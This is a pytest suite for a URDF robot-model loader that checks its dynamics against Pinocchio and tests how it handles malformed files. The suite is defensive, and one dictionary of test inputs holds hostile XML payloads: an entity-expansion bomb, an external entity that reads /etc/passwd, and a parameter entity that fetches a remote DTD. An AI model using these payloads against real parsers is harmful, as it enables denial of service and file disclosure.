"""The URDF loader on every robot of example-robot-data, against Pinocchio; malformed files."""
import os
import warnings

import numpy as np
import pytest

import screwdyn as sd
from conftest import erd_urdf, erd_urdfs, pin_configuration, random_state

pin = pytest.importorskip("pinocchio")

URDFS = erd_urdfs()


def _pin_model(path, floating_base):
    import io
    from contextlib import redirect_stderr

    with redirect_stderr(io.StringIO()):
        try:
            return (pin.buildModelFromUrdf(path, pin.JointModelFreeFlyer()) if floating_base
                    else pin.buildModelFromUrdf(path))
        except (ValueError, RuntimeError):
            return None


def _rel(a, b):
    return np.max(np.abs(np.asarray(a) - b), initial=0.0) / max(1.0, np.max(np.abs(b), initial=0.0))


@pytest.mark.skipif(not URDFS, reason="example-robot-data is not installed")
@pytest.mark.parametrize("path, floating", [(p, i % 2 == 0) for i, p in enumerate(URDFS)],
                         ids=[os.path.basename(p) for p in URDFS])
def test_every_example_robot_agrees_with_pinocchio(path, floating):
    """Each URDF Pinocchio loads, screwdyn loads; kinematics and dynamics agree to 1e-9
    (every other file with a floating base)."""
    pm = _pin_model(path, floating)
    if pm is None:  # Pinocchio refuses the file: screwdyn must refuse it clearly too
        with pytest.raises(sd.ModelError):
            sd.load_urdf(path, floating_base=floating)
        return
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", sd.InertiaWarning)
        model = sd.load_urdf(path, floating_base=floating, joint_order="name")
    assert list(model.joint_names) == [pm.names[i] for i in range(1, pm.njoints)]
    assert (model.nv, model.nbodies) == (pm.nv, pm.njoints - 1)
    data = pm.createData()
    q, qd, qdd = random_state(model, 1, batch=(2,))
    tau = sd.inverse_dynamics(model, q, qd, qdd)
    M = sd.mass_matrix(model, q)
    fk = sd.forward_kinematics(model, q)
    for k in range(2):
        pq = pin_configuration(model, pm, q[k])
        assert _rel(tau[k], pin.rnea(pm, data, pq, qd[k], qdd[k])) < 1e-9
        Mp = pin.crba(pm, data, pq)
        Mp = np.triu(Mp) + np.triu(Mp, 1).T
        assert _rel(M[k], Mp) < 1e-9
        pin.framesForwardKinematics(pm, data, pq)
        for l, name in enumerate(model.link_names):
            if pm.existFrame(name, pin.BODY):
                assert np.abs(fk[k, l] - data.oMf[pm.getFrameId(name, pin.BODY)].homogeneous
                              ).max() < 1e-9
    try:
        sd.forward_dynamics(model, q[0], qd[0], tau[0])
    except sd.ModelError as e:  # screwdyn says FD is undefined: M must really be singular
        assert "forward dynamics is undefined" in str(e)
        eig = np.linalg.eigvalsh(Mp)
        assert eig[0] < 1e-10 * eig[-1]
    else:
        assert _rel(sd.forward_dynamics(model, q, qd, tau), qdd) < 1e-8


def test_file_order_is_a_permutation_of_pinocchio_order():
    path = erd_urdf("talos_data/robots/talos_reduced.urdf")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", sd.InertiaWarning)
        by_file = sd.load_urdf(path)
        by_name = sd.load_urdf(path, joint_order="name")
    assert by_file.joint_names[:3] == ("torso_1_joint", "torso_2_joint", "head_1_joint")
    assert sorted(by_file.joint_names) == sorted(by_name.joint_names)
    perm = [by_file.joint_names.index(n) for n in by_name.joint_names]
    q, qd, qdd = random_state(by_name, 3)
    tau_name = sd.inverse_dynamics(by_name, q, qd, qdd)
    inv = np.argsort(perm)
    tau_file = sd.inverse_dynamics(by_file, q[inv], qd[inv], qdd[inv])
    np.testing.assert_allclose(tau_file[perm], tau_name, rtol=1e-12, atol=1e-12)


def test_the_default_order_warns_where_it_is_not_pinocchios():
    """Talos lists its legs before its torso: by default the file's order is kept and one
    JointOrderWarning names the first joint out of Pinocchio's order and the option; either
    explicit order is silent, and so is a serial chain."""
    path = erd_urdf("talos_data/robots/talos_reduced.urdf")
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        model = sd.load_urdf(path)
    (warning,) = [w for w in caught if issubclass(w.category, sd.JointOrderWarning)]
    assert warning.filename == __file__  # points at the user's call
    message = str(warning.message)
    assert "joint_order='name'" in message and "joint_order='file'" in message
    by_name = sd.load_urdf(path, joint_order="name", strict=False)
    first = next(a for a, b in zip(model.joint_names, by_name.joint_names) if a != b)
    assert repr(first) in message
    assert model.joint_names == sd.load_urdf(path, joint_order="file").joint_names
    for order in ("file", "name"):
        with warnings.catch_warnings():
            warnings.simplefilter("error", sd.JointOrderWarning)
            sd.load_urdf(path, joint_order=order)
    with warnings.catch_warnings():
        warnings.simplefilter("error", sd.JointOrderWarning)
        sd.load_urdf(erd_urdf("panda_description/urdf/panda.urdf"))  # a chain: one order


def test_inconsistent_inertias_warn_once_per_file_or_raise_when_strict():
    path = erd_urdf("tiago_description/robots/tiago_no_hand.urdf")
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        sd.load_urdf(path)
    inertia_warnings = [w for w in caught if issubclass(w.category, sd.InertiaWarning)]
    assert len(inertia_warnings) == 1
    assert "positive semi-definite" in str(inertia_warnings[0].message)
    assert '<link name="' in str(inertia_warnings[0].message)
    with pytest.raises(sd.ModelError, match="inconsistent inertia"):
        sd.load_urdf(path, strict=True)


def test_mimic_joints_load_as_independent_joints():
    model = sd.load_urdf(erd_urdf("panda_description/urdf/panda.urdf"))
    assert "panda_finger_joint2" in model.joint_names and model.nv == 9


ROBOT = """<robot name="r">
  <link name="base"/>
  <link name="arm"><inertial><origin xyz="0 0 0.1" rpy="0 0 0"/><mass value="{mass}"/>
    <inertia ixx="{ixx}" ixy="0" ixz="0" iyy="0.1" iyz="0" izz="0.1"/></inertial></link>
  <joint name="shoulder" type="{kind}"><parent link="{parent}"/><child link="arm"/>
    <origin xyz="{xyz}" rpy="0 0 0"/><axis xyz="{axis}"/>
    <limit lower="-3" upper="3" effort="10" velocity="2"/></joint>
  {extra}
</robot>"""


def urdf(**changes):
    fields = dict(mass="1", ixx="0.1", kind="revolute", parent="base", xyz="0 0 0.5",
                  axis="0 0 1", extra="")
    fields.update(changes)
    return ROBOT.format(**fields)


@pytest.mark.parametrize("text, match", [
    ("this is not xml", "not well-formed XML"),
    ("<robut name='x'/>", "expected <robot>"),
    ("<robot name='x'></robot>", "no links"),
    (urdf(parent="torso"), 'joint name="shoulder".*parent link .torso. does not exist'),
    (urdf(kind="ball"), 'joint name="shoulder".*unsupported joint type'),
    (urdf(kind="universal"), "unsupported joint type 'universal'"),
    (urdf(axis="0 0 0"), 'joint name="shoulder".*zero joint axis'),
    (urdf(axis="0 nan 1"), 'joint name="shoulder".*not finite'),
    (urdf(axis="0 1"), 'joint name="shoulder".*not three numbers'),
    (urdf(xyz="0 0 abc"), 'joint name="shoulder".*not three numbers'),
    (urdf(mass="-1"), 'link name="arm".*negative mass'),
    (urdf(mass="inf"), 'link name="arm".*mass is not finite'),
    (urdf(mass="heavy"), 'link name="arm".*not a number'),
    (urdf(ixx="-0.5"), 'link name="arm".*negative moment of inertia'),
    (urdf(ixx="nan"), 'link name="arm".*inertia is not finite'),
    (urdf(extra='<link name="arm"/>'), 'duplicate link name'),
    (urdf(extra='<link name="tool"/><joint name="shoulder" type="fixed"><parent link="arm"/>'
                '<child link="tool"/></joint>'), "duplicate joint name"),
    (urdf(extra='<link name="other"/>'), "several root links"),
    (urdf(extra='<joint name="back" type="fixed"><parent link="arm"/><child link="base"/>'
                '</joint>'), "cycle"),
    (urdf(extra='<link name="a"/><link name="b"/><joint name="ab" type="fixed"><parent link="a"/>'
                '<child link="b"/></joint><joint name="ba" type="fixed"><parent link="b"/>'
                '<child link="a"/></joint>'), "cycle"),
    (urdf(extra='<joint name="again" type="fixed"><parent link="base"/><child link="arm"/>'
                '</joint>'), "already the child"),
    (urdf(extra='<joint type="fixed"><parent link="base"/><child link="arm"/></joint>'),
     "has no name"),
    (urdf(extra='<link name="tool"/><joint name="j2" type="fixed"><parent link="arm"/></joint>'),
     'joint name="j2".*missing <child'),
])
def test_malformed_urdf_raises_model_error_naming_the_element(text, match, tmp_path):
    path = tmp_path / "robot.urdf"
    path.write_text(text)
    with pytest.raises(sd.ModelError, match=match):
        sd.load_urdf(path)
    if text.startswith("<"):  # the same from an XML string
        with pytest.raises(sd.ModelError, match=match):
            sd.load_urdf(text)


def test_missing_file_is_a_model_error():
    with pytest.raises(sd.ModelError, match="cannot read"):
        sd.load_urdf("/nonexistent/robot.urdf")


def test_massless_moving_subtree_is_reported_when_forward_dynamics_is_asked():
    model = sd.load_urdf(urdf(extra='<link name="tip"/><joint name="wrist" type="revolute">'
                                    '<parent link="arm"/><child link="tip"/>'
                                    '<axis xyz="1 0 0"/><limit effort="1" velocity="1"/>'
                                    '</joint>'))
    tau = sd.inverse_dynamics(model, [0.1, 0.2], [0, 0], [0, 0])  # ID is defined
    assert np.all(np.isfinite(tau))
    with pytest.raises(sd.ModelError, match="joint 'wrist' moves a subtree with no mass"):
        sd.forward_dynamics(model, [0.1, 0.2], [0, 0], [0, 0])
    fixed = model.with_joint_parameters(armature={"wrist": 0.01})
    assert np.all(np.isfinite(sd.forward_dynamics(fixed, [0.1, 0.2], [0, 0], [0, 0])))


# -- URDF as real files are -----------------------------------------------------------------------
REAL = """
<?xml version="1.0"?>
<robot name="real" xmlns:xacro="http://www.ros.org/wiki/xacro">
  <drake:declaration>an element with a prefix nobody declared</drake:declaration>
  <link name="base"><sensor:camera name="cam"/><visual><geometry><box size="1 1 1"/></geometry>
    </visual></link>
  <link name="arm"><inertial><origin xyz="0 0 0.2"/><mass value="2"/>
    <inertia ixx="0.1" ixy="0" ixz="0" iyy="0.1" iyz="0" izz="0.05"/></inertial>
    <gazebo:plugin drake:stiffness="1e5"/></link>
  <link name="tip"><inertial><origin xyz="0.3 0 0"/><mass value="0.5"/></inertial></link>
  <joint name="shoulder" type="revolute"><parent link="base"/><child link="arm"/>
    <axis xyz="0 1 0"/><limit lower="-1.5" upper="2" effort="40" velocity="3"/>
    <safety_controller soft_lower_limit="-1" soft_upper_limit="1" k_velocity="10"/>
    <drake:joint_damping value="0.1"/></joint>
  <joint name="wrist" type="continuous"><parent link="arm"/><child link="tip"/>
    <origin xyz="0 0 0.4"/><axis xyz="1 0 0"/><limit effort="5" velocity="7"/>
    <dynamics damping="0.3" friction="0.2"/></joint>
  <transmission name="t"><type>transmission_interface/SimpleTransmission</type></transmission>
</robot>"""


def test_real_files_load_as_urdfdom_reads_them():
    """Undeclared namespace prefixes, whitespace before <?xml, a point mass (<mass> without
    <inertia>), unknown elements: loaded, as Pinocchio loads them."""
    model = sd.load_urdf(REAL)
    pm = pin.buildModelFromXML(REAL.lstrip())
    assert model.joint_names == ("shoulder", "wrist")
    tip = model.bodies[1]
    assert tip.mass == 0.5 and np.allclose(np.reshape(tip.inertia, (3, 3)), 0)  # a point mass
    q, qd, qdd = np.array([0.3, -0.7]), np.array([0.5, 2.0]), np.array([-1.0, 0.4])
    pq = pin_configuration(model, pm, q)
    assert _rel(sd.inverse_dynamics(model, q, qd, qdd), pin.rnea(pm, pm.createData(), pq, qd,
                                                                  qdd)) < 1e-12
    assert model.lower_position_limit[0] == -1.5 and model.upper_position_limit[0] == 2.0
    assert model.effort_limit.tolist() == [40.0, 5.0]
    assert model.velocity_limit.tolist() == [3.0, 7.0]
    assert np.isinf(model.upper_position_limit[1])  # continuous: no position limit
    with_bom = "\ufeff" + REAL
    assert sd.load_urdf(with_bom.encode("utf-8")).joint_names == model.joint_names
    friction = sd.load_urdf(REAL, joint_damping=True, joint_friction=True)
    assert friction.damping.tolist() == [0.0, 0.3]
    assert friction.coulomb.tolist() == [[0.0, 0.0], [0.2, -0.2]]
    # Coulomb friction opposes the motion; nothing at rest
    tau = sd.inverse_dynamics(friction, q, qd, qdd) - sd.inverse_dynamics(model, q, qd, qdd)
    assert np.allclose(tau, [0.0, 0.3 * 2.0 + 0.2])
    rest = np.zeros(2)
    assert np.allclose(sd.inverse_dynamics(friction, q, rest, qdd),
                       sd.inverse_dynamics(model, q, rest, qdd))


def test_urdf_planar_joint_against_pinocchio():
    """A planar joint normal to z (Pinocchio's JointModelPlanar, which ignores a URDF planar
    joint's axis: it is always the xy plane) and a mobile base: q = (x, y, theta)."""
    text = urdf(kind="planar", axis="0 0 1", xyz="0.1 0.2 0.3", extra=(
        '<link name="tool"><inertial><mass value="0.3"/><inertia ixx="0.01" iyy="0.01" '
        'izz="0.01" ixy="0" ixz="0" iyz="0"/></inertial></link><joint name="elbow" '
        'type="revolute"><parent link="arm"/><child link="tool"/><origin xyz="0.4 0 0"/>'
        '<axis xyz="0 1 0"/><limit lower="-1" upper="1" effort="1" velocity="1"/></joint>'))
    model = sd.load_urdf(text)
    pm = pin.buildModelFromXML(text)
    data = pm.createData()
    assert (model.nq, model.nv, pm.nq, pm.nv) == (4, 4, 5, 4)
    assert np.isinf(model.lower_position_limit[:3]).all()
    q, qd, qdd = np.array([0.3, -0.5, 2.5, 0.4]), np.ones(4), np.array([0.2, -1, 0.5, 2])
    pq = np.array([0.3, -0.5, np.cos(2.5), np.sin(2.5), 0.4])
    assert _rel(sd.inverse_dynamics(model, q, qd, qdd), pin.rnea(pm, data, pq, qd, qdd)) < 1e-12
    M = pin.crba(pm, data, pq)
    assert _rel(sd.mass_matrix(model, q), np.triu(M) + np.triu(M, 1).T) < 1e-12


HOSTILE = {
    "billion laughs": """<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">
        <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
        <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
        <robot name="&lol3;"><link name="a"/></robot>""",
    "external entity": """<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM
        "file:///etc/passwd">]><robot name="r"><link name="&x;"/></robot>""",
    "parameter entity": """<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM
        "http://example.com/evil.dtd"> %p;]><robot name="r"><link name="a"/></robot>""",
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_xml_is_refused(name, tmp_path):
    path = tmp_path / "hostile.urdf"
    path.write_text(HOSTILE[name])
    with pytest.raises(sd.ModelError, match="hostile.urdf: the XML declares or uses entities"):
        sd.load_urdf(path)


@pytest.mark.parametrize("limit, match", [
    ("", 'joint name="shoulder".*needs a <limit'),
    ('<limit lower="-1" upper="1" velocity="2"/>', "<limit>: missing attribute 'effort'"),
    ('<limit lower="-1" upper="1" effort="2"/>', "<limit>: missing attribute 'velocity'"),
    ('<limit lower="x" upper="1" effort="2" velocity="1"/>', "lower='x' is not a number"),
    ('<limit lower="1" upper="-1" effort="2" velocity="1"/>', "lower limit 1.0 > upper limit"),
    ('<limit lower="-1" upper="1" effort="-2" velocity="1"/>', "negative effort limit"),
    ('<limit lower="-1" upper="1" effort="2" velocity="-1"/>', "negative velocity limit"),
])
def test_malformed_limits_name_the_joint(limit, match):
    text = urdf().replace('<limit lower="-3" upper="3" effort="10" velocity="2"/>', limit)
    with pytest.raises(sd.ModelError, match=match):
        sd.load_urdf(text)


def test_missing_limit_position_defaults_as_urdfdom():
    """A <limit> with only effort and velocity: position limits 0 and 0, as urdfdom reads it."""
    model = sd.load_urdf(urdf().replace('lower="-3" upper="3" ', ""))
    assert model.lower_position_limit.tolist() == [0.0] == model.upper_position_limit.tolist()


def test_inertia_warning_names_the_file_and_link_and_points_at_the_caller(tmp_path):
    path = tmp_path / "odd.urdf"
    path.write_text(urdf(ixx="0.5"))
    with pytest.warns(sd.InertiaWarning, match=r"(?s)odd.urdf: model 'r'.*link name=.arm.") as w:
        sd.load_urdf(path)
    assert w[0].filename == __file__
